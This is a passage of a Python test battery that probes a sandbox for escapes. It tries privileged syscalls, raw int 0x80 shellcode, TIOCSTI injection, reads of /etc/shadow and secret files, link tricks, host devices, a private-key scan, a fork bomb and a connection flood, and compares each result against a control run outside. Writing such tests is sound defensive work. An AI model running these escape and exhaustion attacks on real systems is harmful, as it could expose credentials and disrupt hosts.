syscase("keyctl", "keyctl", 0, -3, 0)          # KEYCTL_GET_KEYRING_ID session, no create
syscase("add-key", "add_key", *strs("user", "escape"), ctypes.c_char_p(b"x"), 1, -2, child=True)
syscase("userfaultfd", "userfaultfd", 0)
syscase("personality-read-implies-exec", "personality", 0x0400000, child=True)
syscase("mount-tmpfs", "mount", *strs("none", "/nonexistent-escape", "tmpfs"), 0, 0)
syscase("umount", "umount2", ctypes.c_char_p(b"/nonexistent-escape"), 2)
syscase("fsopen", "fsopen", ctypes.c_char_p(b"tmpfs"), 0, child=True)
syscase("open-tree", "open_tree", -100, ctypes.c_char_p(b"/nonexistent-escape"), 1)
syscase("chroot", "chroot", ctypes.c_char_p(b"/"), child=True)
syscase("pivot-root", "pivot_root", *strs("/nonexistent-escape", "/nonexistent-escape"))
syscase("kexec-load", "kexec_load", 0, 0, 0, 0xffffffff)
syscase("kexec-file-load", "kexec_file_load", -1, -1, 0, 0, 0xffffffff)
syscase("init-module", "init_module", 0, 0, ctypes.c_char_p(b""))
syscase("finit-module", "finit_module", -1, ctypes.c_char_p(b""), 0)
syscase("delete-module", "delete_module", ctypes.c_char_p(b"nonexistent_escape"), 0o4000)
syscase("fanotify-init", "fanotify_init", 0, 0, child=True)
# In a user namespace of the sandbox's own, uid 0 is not mapped at all: EINVAL.
syscase("setuid-root", "setuid", 0, child=True, ok=lambda r: denied(r) or r == "EINVAL")
syscase("x32-unshare-user-namespace", "x32_unshare", CLONE_NEWUSER, child=True)
syscase("x32-keyctl", "x32_keyctl", 0, -3, 0)
syscase("x32-ptrace-traceme", "x32_ptrace", 0, 0, 0, 0, child=True)


def i386_call(nr, a1=0, a2=0, a3=0):
    """The i386 entry (int $0x80) from a 64-bit process, in a forked child: its result,
    an errno name, or the signal the kernel killed it with (a kernel without the entry
    kills it; then there is no i386 entry to use, which the control says as ENOSYS)."""
    import mmap
    code = (b"\x53" + b"\xb8" + struct.pack("<I", nr) + b"\xbb" + struct.pack("<I", a1) +
            b"\xb9" + struct.pack("<I", a2) + b"\xba" + struct.pack("<I", a3) +
            b"\xcd\x80\x5b\xc3")  # push rbx; mov eax..edx; int $0x80; pop rbx; ret
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(rd)
        for sig in (signal_mod.SIGSEGV, signal_mod.SIGILL, signal_mod.SIGBUS):
            signal_mod.signal(sig, signal_mod.SIG_DFL)
        m = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
                      prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        m.write(code)
        fn = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
        r = fn()
        os.write(wr, (errno.errorcode.get(-r, str(r)) if r < 0 else str(r)).encode())
        os._exit(0)
    os.close(wr)
    out = os.read(rd, 100).decode()
    os.close(rd)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        return "killed by signal %d, so the kernel has no i386 entry: ENOSYS" % (
            os.WTERMSIG(status))
    return out


def i386_case(name, nr, *args):
    def attack():
        r = i386_call(nr, *args)
        return denied(r) or r.startswith("killed"), "int $0x80 %d -> %s" % (nr, r)

    def control():
        r = i386_call(nr, *args)
        return not denied(r) and not r.startswith("killed"), "int $0x80 %d -> %s" % (nr, r)
    CASES.append((name, attack, control, "out"))


i386_case("i386-unshare-user-namespace", 310, CLONE_NEWUSER)
i386_case("i386-ptrace-traceme", 26, 0)


def setns_net():
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    try:
        return sys_call(NR["setns"], fd, CLONE_NEWNET)
    finally:
        os.close(fd)


CASES.append(("setns", lambda: (lambda r: (denied(r), "setns -> %s" % r))(in_child(setns_net)),
              lambda: (lambda r: (not denied(r), r))(in_child(setns_net)), "out"))


def pty_ioctl(req):
    import fcntl
    try:
        master, slave = pty.openpty()
    except OSError as e:
        # Unprivileged mode grants no new terminal, only the one on stdio (the test
        # gives it one): the attack is tried there.
        if not os.isatty(0):
            return "no terminal: openpty: %s" % e
        master, slave = os.dup(0), os.dup(0)
    try:
        fcntl.ioctl(slave, req, b"x")
        return "0"
    except OSError as e:
        return err(e)
    finally:
        os.close(master)
        os.close(slave)


CASES.append(("tiocsti-on-a-terminal", lambda: (lambda r: (denied(r), "TIOCSTI -> %s" % r))(
    pty_ioctl(0x5412)), lambda: (lambda r: (not denied(r), r))(pty_ioctl(0x5412)), "out"))
CASES.append(("tioclinux-on-a-terminal", lambda: (lambda r: (denied(r), "TIOCLINUX -> %s" % r))(
    pty_ioctl(0x541C)), lambda: (lambda r: (not denied(r), r))(pty_ioctl(0x541C)), "out"))


def run_setuid():
    import subprocess
    r = subprocess.run([CFG["suid_id"], "-u"], capture_output=True, text=True, timeout=10)
    return r.stdout.strip()


def run_setuid_as_nobody():
    def child():
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
        return run_setuid()
    return in_child(child)


CASES.append(("setuid-binary-gains-nothing",
              lambda: (lambda u: (u != "0", "setuid-root id -u printed %s" % u))(run_setuid()),
              lambda: (lambda u: (u == "0", "as 65534 outside it printed %s" % u))(
                  run_setuid_as_nobody()), "out"))


# --- files ------------------------------------------------------------------------------

def read_file(path):
    try:
        with open(path, "rb") as f:
            data = f.read(1 << 16)
        received(data)
        return True, data
    except OSError as e:
        return False, err(e)


@case("secret-file-holds-only-the-placeholder", where="out")
def _():
    ok, data = read_file(CFG["secret_file"])
    if unprivileged():
        # No mount to mask it: the file stays closed, its view is in AIRLOCK_SECRETS_DIR.
        view = os.path.join(os.environ.get("AIRLOCK_SECRETS_DIR", "/nonexistent"), "FILETOK")
        vok, vdata = read_file(view)
        return not ok and vok and vdata.strip() == (PH + "FILETOK").encode(), \
            "the file: %s; %s reads %r" % (data if not ok else "read", view, vdata[:40])
    return ok and data.strip() == (PH + "FILETOK").encode(), "reads %r" % (
        data[:40] if ok else data)


CASES[-1] = CASES[-1][:2] + (lambda: (read_file(CFG["secret_file"])[0],
                                      "the host file is there (its value stays outside)"), "out")


@case("secret-folder-shows-nothing-else", where="out")
def _():
    try:
        names = os.listdir(os.path.dirname(CFG["secret_file"]))
    except OSError as e:
        return True, err(e)
    return CFG["sibling_name"] not in names, "lists %s" % names


CASES[-1] = CASES[-1][:2] + (lambda: (CFG["sibling_name"] in os.listdir(
    os.path.dirname(CFG["secret_file"])), "the sibling is there outside"), "out")
netcase("secret-sibling-file-read",
        lambda: (lambda r: (r[0], "read %d bytes" % len(r[1]) if r[0] else r[1]))(
            read_file(CFG["sibling"])))
netcase("host-file-outside-policy-read",
        lambda: (lambda r: (r[0], "read" if r[0] else r[1]))(read_file(CFG["host_only"])))
netcase("etc-shadow-read", lambda: (lambda r: (r[0], "read" if r[0] else r[1]))(
    read_file("/etc/shadow")))


def write_to(path):
    try:
        with open(path, "wb") as f:
            f.write(b"escape")
        os.unlink(path)
        return True, "wrote %s" % path
    except OSError as e:
        return False, err(e)


def writecase(name, path):
    """path: a function, as CFG is read only when the cases run."""
    CASES.append((name, lambda: (lambda r: (not r[0], r[1]))(write_to(path())),
                  lambda: write_to(os.path.join(CFG["rw"], "ok-" + name)), "in"))


writecase("write-into-read-only-tree", lambda: os.path.join(CFG["ro"], "x"))
writecase("write-into-usr", lambda: "/usr/escape-x")
writecase("write-into-etc", lambda: "/etc/escape-x")
writecase("write-into-root", lambda: "/escape-x")
writecase("write-into-the-ca-folder", lambda: os.path.join(os.path.dirname(ca_file()),
                                                           "escape-x"))


def open_for_writing(path):
    try:
        os.close(os.open(path, os.O_WRONLY))
        return True, "opened %s for writing" % path
    except OSError as e:
        return False, "%s: %s" % (path, err(e))


CASES.append(("open-the-ca-certificate-for-writing",
              lambda: (lambda r: (not r[0], r[1]))(open_for_writing(ca_file())),
              lambda: open_for_writing(os.path.join(CFG["rw"], "received.bin")), "in"))


def fs_op(fn, *args):
    try:
        fn(*args)
        return True, "done"
    except OSError as e:
        return False, err(e)


def rw(name):
    return os.path.join(CFG["rw"], name)


def fscase(name, attack, control):
    CASES.append((name, lambda: (lambda r: (not r[0], r[1]))(attack()), control, "in"))


def prep(name, data=b"mine"):
    with open(rw(name), "wb") as f:
        f.write(data)
    return rw(name)


fscase("hard-link-out-of-read-only-tree",
       lambda: fs_op(os.link, CFG["ro_file"], rw("hl")),
       lambda: fs_op(os.link, prep("a"), rw("a-link")))
fscase("hard-link-from-rw-into-read-only-tree",
       lambda: fs_op(os.link, prep("b"), os.path.join(CFG["ro"], "hl")),
       lambda: fs_op(os.link, prep("b2"), rw("b2-link")))


def via_symlink(target):
    link = rw("sl-%d" % abs(hash(target)))
    if os.path.lexists(link):
        os.unlink(link)
    os.symlink(target, link)
    return (lambda r: (r[0], "read %s through a link" % target if r[0] else r[1]))(read_file(link))


fscase("symlink-to-host-only-file", lambda: via_symlink(CFG["host_only"]),
       lambda: via_symlink(prep("c")))
fscase("symlink-to-secret-sibling", lambda: via_symlink(CFG["sibling"]),
       lambda: via_symlink(prep("c2")))
fscase("rename-out-of-read-write-tree",
       lambda: fs_op(os.rename, prep("d"), os.path.join(CFG["ro"], "d")),
       lambda: fs_op(os.rename, prep("d2"), rw("d2-renamed")))
fscase("rename-read-only-file-into-read-write-tree",
       lambda: fs_op(os.rename, CFG["ro_file"], rw("stolen")),
       lambda: fs_op(os.rename, prep("e"), rw("e-renamed")))
fscase("chmod-read-only-file", lambda: fs_op(os.chmod, CFG["ro_file"], 0o777),
       lambda: fs_op(os.chmod, prep("f"), 0o600))


def by_handle():
    h = bytes.fromhex(CFG["handle"])
    buf = ctypes.create_string_buffer(h, len(h))
    # The mount descriptor: a folder of the same file system that each side may open
    # (Landlock gives the sandbox no read of "/").
    fd = os.open(CFG["handle_dir"] if CFG["where"] == "outside" else CFG["rw"], os.O_RDONLY)
    try:
        r = sys_call(NR["open_by_handle_at"], fd, buf, os.O_RDONLY)
    finally:
        os.close(fd)
    if isinstance(r, int):
        os.close(r)
        return True, "opened the host-only file by handle"
    # Only a refusal counts as blocked: ESTALE or EINVAL would mean the probe was wrong.
    return not denied(r), r


netcase("open-by-handle-of-host-file", by_handle)


def dev_open(path):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        os.close(fd)
        return True, "opened %s" % path
    except OSError as e:
        return False, "%s: %s" % (path, err(e))


for dev in ("/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/loop0", "/dev/console", "/dev/tty1"):
    netcase("host-device-" + dev[5:], lambda dev=dev: dev_open(dev) if (
        CFG["where"] == "inside" or os.path.exists(dev)) else (True, dev + " absent on the host"))


def list_dir(path):
    try:
        return True, "%s lists %d names" % (path, len(os.listdir(path)))
    except OSError as e:
        return False, "%s: %s" % (path, err(e))


# Absent in a namespace mode; there but closed by Landlock in unprivileged mode.
netcase("sys-kernel-listed", lambda: list_dir("/sys/kernel"))
netcase("sys-class-net-listed", lambda: list_dir("/sys/class/net"))


def mknod_mem(path):
    try:
        os.mknod(path, 0o600 | 0o020000, os.makedev(1, 1))
        os.unlink(path)
        return True, "made a char device 1:1"
    except OSError as e:
        return False, err(e)


netcase("mknod-char-device", lambda: mknod_mem(os.path.join(
    CFG["rw"] if CFG["where"] == "inside" else CFG["scratch"], "mem")))


@case("ca-key-not-inside", control=lambda: (b"BEGIN CERTIFICATE" in read_file(
        ca_file())[1], "%s holds the CA certificate" % ca_file()))
def _():
    hits = []
    tops = ["/run", "/tmp", CFG["rw"], "/dev", "/proc/self", "/proc/1",
            os.path.dirname(ca_file()), os.environ.get("TMPDIR", "/tmp")]
    for top in tops:
        for d, _, files in os.walk(top):
            if d.startswith(("/proc/self/task", "/proc/1/task")) or "/fd" in d:
                continue
            for f in files:
                p = os.path.join(d, f)
                if p.startswith("/proc") and f not in ("environ", "cmdline"):
                    continue
                ok, data = read_file(p) if not p.startswith("/dev/") or f in () else (False, b"")
                if ok and b"PRIVATE KEY" in data:
                    hits.append(p)
    return not hits, "files with PRIVATE KEY: %s" % hits


# --- terminals ----------------------------------------------------------------------------

# The host's pty number: inside, /dev/pts is the sandbox's own and has no such entry
# (this runs before the battery opens ptys of its own).
netcase("host-pty", lambda: dev_open(CFG["host_pty"]))


# --- resources ----------------------------------------------------------------------------

@case("fork-bomb-stops-at-max-processes", control=control_api_ok)
def _():
    kids, why = [], "no limit met"
    try:
        for _ in range(CFG["bomb_cap"]):
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            kids.append(pid)
    except OSError as e:
        why = err(e)
    for k in kids:
        os.kill(k, 9)
    for k in kids:
        os.waitpid(k, 0)
    ok, detail = control_api_ok()
    return why == "EAGAIN" and len(kids) < CFG["max_processes"] and ok, \
        "%d forks then %s; proxy afterwards: %s" % (len(kids), why, detail)


FLOOD = 10000


def raise_nofile(want):
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    return soft, hard


@case("connection-flood-at-the-proxy", control=control_api_ok)
def _():
    import resource
    old = raise_nofile(FLOOD + 64)
    socks, why = [], "all made"
    try:
        for _ in range(FLOOD):
            socks.append(socket.create_connection(PROXY, timeout=10))
    except OSError as e:
        why = err(e)
    n = len(socks)
    # While they are held, a new connection is refused with a 503 that names the
    # limit (the proxy serves at most 4096 per sandbox), or served below it.
    for s in socks[-16:]:
        s.close()
    try:
        ok, during = control_api_ok()
        during_ok = ok
    except OSError as e:
        during = str(e)
        during_ok = "503" in during
    if n > 4096 and during_ok:
        st, busy, head = proxy_connect("api.example.test:443")
        if busy:
            busy.close()
        during += "; a CONNECT now: %d %s" % (st, b"too-many-connections" in head)
        during_ok = st == 503 and b"too-many-connections" in head
    for s in socks[:-16]:
        s.close()
    resource.setrlimit(resource.RLIMIT_NOFILE, old)
    ok, detail = control_api_ok()
    return ok and during_ok, "%d of %d connections made (%s; file limit %d); while " \
        "held: %s; afterwards: %s" % (n, FLOOD, why, old[1], during[:200], detail)


@case("fd-exhaustion-stops-at-the-limit", control=control_api_ok)
def _():
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    fds, why = [], "no limit met"
    try:
        for _ in range(hard + 8):
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        why = err(e)
    for fd in fds:
        os.close(fd)
    # and the hard limit cannot be raised from inside
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))
        raised = "raised"
    except (OSError, ValueError) as e:
        raised = "refused (%s)" % (err(e) if isinstance(e, OSError) else e)
    ok, detail = control_api_ok()
    return why == "EMFILE" and len(fds) <= soft and raised.startswith("refused") and ok, \
        "%d files then %s; raising the hard limit %s; proxy afterwards: %s" % (
            len(fds), why, raised, detail)


def main(argv):
    global RECEIVED
    outside = argv[1] == "--outside"
    CFG.update(json.load(open(argv[-1])))
    CFG["where"] = "outside" if outside else "inside"
    RECEIVED = None if outside else CFG["received"]
    mode = CFG.get("mode", "full")
    for name, attack, control, where in CASES:
        if name in NOT_IN[mode]:
            print("%s NA %s" % (name, NOT_IN[mode][name]), flush=True)
            continue
        try:
            if outside:
                if where == "out":
                    ok, detail = control()
                    print("%s CONTROL %s %s" % (name, "ok" if ok else "failed", detail), flush=True)
                continue
            blocked, detail = attack()
            if not blocked:
                print("%s OPEN %s" % (name, detail), flush=True)
                continue
            if where == "in":
                ok, cdetail = control()
                if not ok:
                    print("%s NOCONTROL %s; control: %s" % (name, detail, cdetail), flush=True)
                    continue
                detail += "; control: " + cdetail
            print("%s BLOCKED %s" % (name, detail), flush=True)
        except Exception as e:  # noqa: BLE001 - one broken probe must not hide the rest
            print("%s ERROR %r" % (name, e), flush=True)


if __name__ == "__main__":
    main(sys.argv)
